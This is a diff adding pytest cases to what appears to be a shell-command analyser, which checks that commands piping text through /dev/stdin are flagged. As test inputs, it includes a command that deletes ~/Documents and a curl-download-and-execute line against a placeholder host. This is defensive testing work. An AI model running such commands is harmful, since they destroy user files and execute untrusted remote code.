@@ -38,3 +38,22 @@ def test_an_extraction_in_the_project_writes_the_project(tmp_path: Path) -> None
     writes = ops("cd build && ar x libfoo.a", tmp_path, "write")
     assert [(e["path"], e["class"]) for e in writes] == [(f"{tmp_path}/build", "project")]
 
+
+# --- a copy of /dev/stdin holds what the pipe carried ---
+
+
+def test_a_script_installed_from_stdin_runs_the_piped_text(tmp_path: Path) -> None:
+    command = "printf 'rm -rf ~/Documents\\n' | install -m 755 /dev/stdin /tmp/t.sh && /tmp/t.sh"
+    assert [e["path"] for e in ops(command, tmp_path, "delete")] == [f"{HOME}/Documents"]
+
+
+def test_a_download_copied_from_stdin_and_run_is_a_fetched_script(tmp_path: Path) -> None:
+    command = "curl -s https://x.example.net/i | cp /dev/stdin /tmp/i.sh && sh /tmp/i.sh"
+    assert [e.get("flow") for e in ops(command, tmp_path, "exec")] == ["fetch"]
+
+
+def test_a_copy_of_stdin_empties_nothing(tmp_path: Path) -> None:
+    command = "printf 'echo ok\\n' | install -m 755 /dev/stdin scripts/ok.sh && scripts/ok.sh"
+    assert not ops(command, tmp_path, "delete")
+    assert [e["code"]["text"] for e in ops(command, tmp_path, "exec")] == ["echo ok\n"]
+
